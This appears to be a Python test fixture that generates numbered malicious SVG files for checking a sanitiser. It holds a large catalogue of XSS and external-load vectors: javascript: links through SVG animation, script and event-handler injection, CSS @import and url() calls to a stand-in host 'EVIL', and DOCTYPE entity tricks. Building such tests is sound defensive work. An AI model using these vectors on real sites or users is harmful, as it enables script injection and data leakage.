"""SVG files that run, lead or load when they are opened by themselves, where nobody cleans them.

`PWN` and `EVIL` are as in `tests.support.hostile`. Most have to be clicked; `_COVER` is what is there to click.
"""

from __future__ import annotations

import base64

from tests.support.hostile import armed

_COVER = "<rect width='90' height='90' fill='red'/>"
_NAMESPACES = (
    "xmlns='http://www.w3.org/2000/svg' xmlns:s='http://www.w3.org/2000/svg' xmlns:h='http://www.w3.org/1999/xhtml' "
    "xmlns:xlink='http://www.w3.org/1999/xlink' xmlns:l='http://www.w3.org/1999/xlink' "
    "xmlns:ev='http://www.w3.org/2001/xml-events'"
)
_LINKED = (
    # The name of the attribute to change, in all that looks like it, and twice.
    "<set attributeName='href' to='javascript:PWN'/>",
    "<set attributeName='href' attributename='x' to='javascript:PWN'/>",
    "<set attributename='x' attributeName='href' to='javascript:PWN'/>",
    "<set attributeName='href' ATTRIBUTENAME='x' AttributeName='y' to='javascript:PWN'/>",
    "<set attributeName='href' xlink:attributeName='x' to='javascript:PWN'/>",
    "<set attributeName='xlink:href' to='javascript:PWN'/>",
    "<set attributeName='l:href' to='javascript:PWN'/>",
    "<set attributeName=' href ' to='javascript:PWN'/>",
    "<set attributeName='&#104;re&#x66;' to='java&#115;cript:PWN'/>",
    "<set attributeName='h&#10;ref' to='javascript:PWN'/>",
    "<set attributeName='HREF' to='javascript:PWN'/>",
    "<set attributeType='XML' attributeName='href' to='&#9;javascript:PWN'/>",
    "<animate attributeName='href' values='javascript:PWN' dur='9s' fill='freeze'/>",
    "<animate attributeName='href' attributename='x' values='javascript:PWN;javascript:PWN' dur='9s'/>",
    "<animate attributeName='href' attributename='x' from='javascript:PWN' to='javascript:PWN' dur='9s'/>",
    "<animate attributeName='href' attributename='x' from='#' by='javascript:PWN' to='javascript:PWN' dur='9s'/>",
    "<s:animate attributeName='href' values='javascript:PWN' dur='9s'/>",
    "<animateColor attributeName='href' values='javascript:PWN' dur='9s'/>",
    "<animateTransform attributeName='href' type='translate' from='javascript:PWN' to='javascript:PWN' dur='9s'/>",
    "<animateMotion attributeName='href' values='javascript:PWN' dur='9s'/>",
    "<set attributeName='target' to='_blank'/><set attributeName='href' attributename='x' to='http://EVIL'/>",
    "<set attributeName='href' attributename='x' to='http://EVIL'/>",
    "<discard begin='0s' href='#a'/>",
)
_INNER = (
    *(f"<a id='a' href='#a'>{inner}{_COVER}</a>" for inner in _LINKED),
    *(f"<a id='a' xlink:href='#a'>{inner}{_COVER}</a>" for inner in _LINKED),
    f"<set xlink:href='#a' attributeName='href' attributename='' to='javascript:PWN'/><a id='a' href='#a'>{_COVER}</a>",
    f"<set href='#a' attributeName='href' attributename='x' to='javascript:PWN'/><a id='a' href='#a'>{_COVER}</a>",
    f"<a href='javascript:PWN'>{_COVER}</a>",
    f"<a l:href='javascript:PWN'>{_COVER}</a>",
    f"<a href='#a' xlink:href='javascript:PWN'>{_COVER}</a>",
    f"<a xlink:href='#a' href='javascript:PWN'>{_COVER}</a>",
    f"<a href='#a' HREF='javascript:PWN'>{_COVER}</a>",
    f"<a HREF='#a' href='javascript:PWN'>{_COVER}</a>",
    f"<a href='java&#9;script:PWN'>{_COVER}</a>",
    f"<a href='http://EVIL'>{_COVER}</a>",
    f"<a href='//EVIL' target='_blank'>{_COVER}</a>",
    f"<a href='#a' ping='http://EVIL'>{_COVER}</a>",
    f"<a xml:base='http://EVIL/' href='#a'>{_COVER}</a>",
    f"<a href='data:text/html,x'>{_COVER}</a><script>PWN</script>",
    f"<h:a href='javascript:PWN'><h:img src='x' onerror='PWN'/>{_COVER}</h:a>",
    "<script>PWN</script>",
    "<s:script>PWN</s:script>",
    "<h:script>PWN</h:script>",
    "<script xmlns='http://www.w3.org/1999/xhtml'>PWN</script>",
    "<script type='text/ecmascript'><![CDATA[PWN]]></script>",
    "<script href='data:text/javascript,PWN'/>",
    "<script xlink:href='data:text/javascript,PWN'/>",
    "<g><title><s:script>PWN</s:script></title></g>",
    "<style><s:script>PWN</s:script></style>",
    "<switch><foreignObject><h:img src='x' onerror='PWN'/></foreignObject></switch>",
    "<foreignObject width='9' height='9'><h:iframe srcdoc='&lt;script&gt;parent.PWN&lt;/script&gt;'/></foreignObject>",
    "<h:iframe src='javascript:parent.PWN'/>",
    "<h:object data='http://EVIL'/><h:embed src='http://EVIL'/>",
    "<h:link rel='stylesheet' href='http://EVIL'/>",
    "<h:meta http-equiv='refresh' content='0;url=http://EVIL'/>",
    "<h:base href='http://EVIL/'/><image href='x.png' width='90' height='90'/>",
    "<h:audio src='http://EVIL' autoplay=''/><h:video poster='http://EVIL'/>",
    f"<g onload='PWN' onclick='PWN' onmouseover='PWN' onfocus='PWN' tabindex='0'>{_COVER}</g>",
    f"<g ONCLICK='x' onclick='PWN' onpointerdown='PWN'>{_COVER}</g>",
    f"<g><set attributeName='onclick' attributename='x' to='PWN'/>{_COVER}</g><script>PWN</script>",
    "<animate onbegin='PWN' attributeName='x' dur='1s'/>",
    "<set attributeName='x' to='1' begin='0s' onbegin='PWN' onend='PWN' dur='0.01s'/>",
    "<animateMotion dur='1s' onbegin='PWN'><mpath href='http://EVIL#x'/></animateMotion>",
    "<handler type='text/javascript' ev:event='load'>PWN</handler><script>PWN</script>",
    "<ev:listener event='load' handler='#h'/><script id='h'>PWN</script>",
    "<image href='http://EVIL' width='90' height='90'/>",
    "<image href='#a' HREF='x' xlink:href='http://EVIL' width='90' height='90'/><image xlink:href='http://EVIL'/>",
    "<image href='#a' width='9' height='9'><set attributeName='href' attributename='x' to='http://EVIL'/></image>",
    "<image href='#a' width='9' height='9'><animate attributeName='href' attributename='x' values='http://EVIL'/></image>",
    "<image href='data:image/svg+xml;base64,{nested}' width='9' height='9'/><script>PWN</script>",
    "<use href='data:image/svg+xml;base64,{nested}#x'/><script>PWN</script>",
    "<use href='http://EVIL#x'/><script>PWN</script>",
    f"<filter id='f'><feImage href='http://EVIL'/></filter><g filter='url(#f)'>{_COVER}</g>",
    f"<feImage href='#a'><set attributeName='href' attributename='x' to='http://EVIL'/></feImage>{_COVER}",
    (
        f"<filter id='f'><feImage id='a' href='#a'/></filter><g filter='url(#f)'>{_COVER}</g>"
        "<set href='#a' attributeName='href' attributename='x' to='http://EVIL'/>"
    ),
    f"<g style='filter:url(http://EVIL#x)'>{_COVER}</g>",
    f"<g filter='url(http://EVIL#x)' mask='url(//EVIL#x)' clip-path='url(http://EVIL#x)'>{_COVER}</g>",
    f"<g>{_COVER}<animate attributeName='filter' values='url(http://EVIL#x);url(http://EVIL#y)' dur='9s'/></g>",
    f"<g>{_COVER}<set attributeName='mask' to='url(http://EVIL#x)'/></g>",
    f"<g style='cursor:url(http://EVIL),auto' cursor='url(http://EVIL),auto'>{_COVER}</g>",
    f"<cursor id='c' xlink:href='http://EVIL'/><g style='cursor:url(#c),auto'>{_COVER}</g><script>PWN</script>",
    "<style>@import url(http://EVIL);</style>",
    "<style>@import 'http://EVIL';</style>",
    "<style>@\\69mport 'http://EVIL';</style>",
    "<style>/**/@import/**/'http://EVIL';</style>",
    f"<style>rect{{mask:url(http://EVIL)}}</style>{_COVER}",
    f"<style>rect{{mask-image:image-set('http://EVIL' 1x)}}</style>{_COVER}",
    f"<style>rect{{fill:u\\72l(http://EVIL#x)}}</style>{_COVER}<script>PWN</script>",
    "<style>@font-face{font-family:x;src:url(http://EVIL)}</style><text y='20' font-family='x'>x</text>",
    "<style>svg{background:url(http://EVIL)}</style>",
    "<style>svg{--x:url(http://EVIL);background:var(--x)}</style>",
    "<style>&lt;!-- svg{background:url('http://EVIL')} --&gt;</style>",
    (
        "<font-face font-family='x'><font-face-src><font-face-uri xlink:href='http://EVIL'/></font-face-src></font-face>"
        "<text y='20' font-family='x'>x</text><script>PWN</script>"
    ),
    "<color-profile name='x' xlink:href='http://EVIL'/><script>PWN</script>",
    "<tref xlink:href='http://EVIL#x'/><altGlyph xlink:href='http://EVIL#x'/><script>PWN</script>",
    "<textPath href='http://EVIL#x'>x</textPath><linearGradient href='http://EVIL#x'/><script>PWN</script>",
)
_HEADS = (
    "<?xml-stylesheet href='http://EVIL' type='text/css'?>",
    "<?xml-stylesheet href='data:text/css,svg{background:url(http://EVIL)}' type='text/css'?>",
    "<!DOCTYPE svg [<!ENTITY x '<script>PWN</script>'>]>",
    "<!DOCTYPE svg [<!ATTLIST svg onload CDATA 'PWN'>]>",
    "<!DOCTYPE svg [<!ATTLIST a href CDATA 'javascript:PWN'>]>",
)


def numbered() -> dict[int, str]:
    """Return every drawing under a number of its own, which is also in its title: no two are the same file."""
    roots = [("", inner) for inner in _INNER]
    roots += [(head, f"<a>{_COVER}</a>{'&x;' if 'ENTITY' in head else ''}") for head in _HEADS]
    drawings = {}
    for number, (head, inner) in enumerate(roots, 1001):
        nested = f"<svg xmlns='http://www.w3.org/2000/svg' id='x' onload='{armed('PWN', number)}'/>"
        inner = inner.replace("{nested}", base64.b64encode(nested.encode()).decode())
        svg = f"{head}<svg {_NAMESPACES} width='90' height='90'><desc>{number}</desc>{inner}</svg>"
        drawings[number] = armed(svg, number)
    return drawings
